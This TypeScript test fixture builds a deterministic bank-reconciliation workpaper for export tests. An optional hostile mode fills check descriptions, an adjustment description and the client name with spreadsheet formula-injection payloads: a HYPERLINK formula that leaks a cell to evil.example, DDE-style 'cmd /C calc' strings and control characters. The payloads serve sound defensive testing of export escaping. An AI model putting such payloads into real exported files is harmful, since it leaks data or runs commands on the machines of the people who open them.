/**
 * A realistic, deterministic workpaper for the export tests and for looking at the rendered
 * files. Its proof follows the server's conventions (outstanding checks a positive magnitude,
 * adjustments proposed and approved) and adds up: adjusted bank − adjusted book = `differenceMinor`.
 */
import { addDays, daysBetween } from '../../domain/dates';
import type { ReconciliationWorkpaper, WorkpaperItem } from '../../domain/reconciliation/workpaper';

export interface SampleWorkpaperOptions {
  outstandingChecks?: number;
  depositsInTransit?: number;
  /** An unexplained difference to build into the proof (minor units). */
  differenceMinor?: number;
  /** Descriptions and notes that try formula injection and control characters. */
  hostileText?: boolean;
  currency?: string;
}

export const SAMPLE_STATEMENT_BALANCE_MINOR = 1_234_567_89;

export function buildSampleWorkpaper(options: SampleWorkpaperOptions = {}): ReconciliationWorkpaper {
  const statementDate = '2026-10-31';
  const outstandingChecks = Array.from({ length: options.outstandingChecks ?? 6 }, (_, index) =>
    sampleCheck(index, statementDate, options.hostileText ?? false),
  );
  const depositsInTransit = Array.from({ length: options.depositsInTransit ?? 3 }, (_, index) => sampleDeposit(index, statementDate));
  const adjustments: ReconciliationWorkpaper['adjustments'] = [
    { date: '2026-10-31', description: 'MONTHLY SERVICE CHARGE', amountMinor: -35_00, reasonCode: 'bank_fee', account: '6100 Bank charges', status: 'approved' },
    { date: '2026-10-31', description: 'INTEREST PAID', amountMinor: 12_41, reasonCode: 'interest', account: '4900 Interest income', status: 'approved' },
    {
      date: '2026-10-27',
      description: options.hostileText ? '=HYPERLINK("http://evil.example","NSF")' : 'RETURNED ITEM NSF CUSTOMER 2231',
      amountMinor: -1_250_00,
      reasonCode: 'nsf',
      account: null,
      status: 'proposed',
    },
  ];
  const sum = (amounts: ReadonlyArray<{ amountMinor: number }>) => amounts.reduce((total, item) => total + item.amountMinor, 0);
  const statementBalanceMinor = SAMPLE_STATEMENT_BALANCE_MINOR;
  const depositsInTransitMinor = sum(depositsInTransit);
  // A positive magnitude, as the server reports it; the listed checks keep their negative sign.
  const outstandingChecksMinor = -sum(outstandingChecks);
  const adjustedBankBalanceMinor = statementBalanceMinor + depositsInTransitMinor - outstandingChecksMinor;
  const adjustmentsMinor = sum(adjustments);
  const differenceMinor = options.differenceMinor ?? 0;
  const adjustedBookBalanceMinor = adjustedBankBalanceMinor - differenceMinor;
  return {
    firmName: 'Harborvale Accounting',
    clientName: options.hostileText ? '@SUM(1+1)*cmd|\' /C calc\'!A0' : 'Northwind Traders LLC',
    accountName: 'Operating account',
    accountNumber: '•••• 4821',
    currency: options.currency ?? 'USD',
    periodStart: '2026-10-01',
    statementDate,
    status: 'approved',
    preparer: { name: 'Preparer One', at: '2026-11-04T09:12:00.000Z' },
    reviewer: { name: 'Reviewer Two', at: '2026-11-05T16:40:00.000Z' },
    assignedPreparer: 'Preparer One',
    assignedReviewer: 'Reviewer Two',
    proof: {
      statementBalanceMinor,
      depositsInTransitMinor,
      outstandingChecksMinor,
      adjustedBankBalanceMinor,
      bookBalanceMinor: adjustedBookBalanceMinor - adjustmentsMinor,
      adjustmentsMinor,
      adjustedBookBalanceMinor,
      differenceMinor,
    },
    outstandingChecks,
    depositsInTransit,
    adjustments,
    matchedSummary: [
      { reason: 'bank-id', groups: 112, bankLines: 112, ledgerLines: 112, amountMinor: -48_211_37 },
      { reason: 'amount+reference', groups: 41, bankLines: 41, ledgerLines: 41, amountMinor: -96_530_00 },
      { reason: 'amount+date', groups: 23, bankLines: 23, ledgerLines: 23, amountMinor: 18_220_15 },
      { reason: 'one-to-many', groups: 4, bankLines: 4, ledgerLines: 17, amountMinor: 52_004_80 },
      { reason: 'manual', groups: 2, bankLines: 2, ledgerLines: 3, amountMinor: -1_310_00 },
    ],
    generatedAt: '2026-11-05T17:02:31.000Z',
    generatedBy: 'Reviewer Two',
  };
}

const PAYEES = ['Contoso Office Supply', 'Fabrikam Logistics', 'City Water Utility', 'Adatum Insurance Co', 'Litware Software', 'Tailspin Freight'];

function sampleCheck(index: number, statementDate: string, hostile: boolean): WorkpaperItem {
  const date = addDays(statementDate, -((index * 3) % 120) - 1);
  const payee = PAYEES[index % PAYEES.length] ?? 'Payee';
  const hostileDescriptions = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1)', '\t=1', '\r=1', '\u0000hidden'];
  return {
    date,
    description: hostile && index < hostileDescriptions.length ? (hostileDescriptions[index] ?? '') : `CHECK ${1042 + index} ${payee}`,
    reference: String(1042 + index),
    amountMinor: -(((index * 791_93) % 480_000) + 125_50),
    ageDays: daysBetween(date, statementDate),
    note: index % 4 === 0 ? 'Mailed to vendor; cleared in November per online banking.' : null,
  };
}

function sampleDeposit(index: number, statementDate: string): WorkpaperItem {
  const date = addDays(statementDate, -index);
  return {
    date,
    description: `DEPOSIT BATCH ${3300 + index}`,
    reference: null,
    amountMinor: ((index * 3_311_77) % 2_500_000) + 4_210_00,
    ageDays: daysBetween(date, statementDate),
    note: null,
  };
}
